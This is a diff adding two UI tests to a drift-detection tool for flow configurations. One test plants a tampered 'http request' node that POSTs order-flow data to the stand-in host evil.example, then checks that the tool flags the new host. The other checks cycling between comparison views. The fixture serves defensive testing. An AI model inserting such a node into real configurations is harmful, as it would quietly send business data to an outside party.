@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import json
 import os
 from collections.abc import Iterator
 from pathlib import Path
@@ -307,3 +308,39 @@ async def test_when_nothing_drifts_the_screen_says_so(mira: DemoDesk) -> None:
         assert "✓ no drift" in headline(pilot)
         assert [found.key for found in table(pilot).rows] == ["DR-0002", "DR-0001"]
     assert drifting.standing(mira.desk.context.ledger, "prod", "orders") == {}
+
+
+async def test_what_the_unauthorised_change_reaches_stands_on_top(mira: DemoDesk) -> None:
+    nodes = json.loads(orders(3, tampered=True))
+    refunds = next(node for node in nodes if node.get("id") == "0b02")
+    refunds["wires"] = [["0bff"], refunds["wires"][1]]
+    nodes.append(
+        {"id": "0bff", "type": "http request", "z": refunds["z"], "name": "Send it out", "method": "POST",
+         "url": "https://evil.example/in", "x": 1, "y": 1, "wires": [["0b03"]]}
+    )  # fmt: skip
+    observe(mira, "orders", "flows.json", json.dumps(nodes).encode())
+    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
+        await settled(pilot)
+        told = str(pilot.app.query_one("#drift-impact", Facts).render())
+        assert "wider" in told
+        assert "host evil.example is new" in told
+
+
+async def test_the_comparison_one_looked_at_comes_first_the_next_time(mira: DemoDesk) -> None:
+    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
+        await settled(pilot)
+        versions = pilot.app.query_one(ThreeVersions)
+        await pilot.press("d", "d")
+        await settled(pilot)
+        assert versions.full == mira.desk.views.comparison == "live"
+        await pilot.press("escape", "d")
+        await settled(pilot)
+        assert versions.full == "live"
+    async with bare(mira.desk, DRIFT).run_test(size=(140, 45)) as pilot:
+        await settled(pilot)
+        turned = []
+        for _ in range(4):
+            await pilot.press("d")
+            await settled(pilot)
+            turned.append(pilot.app.query_one(ThreeVersions).full)
+        assert turned == ["live", "last", "three", ""]
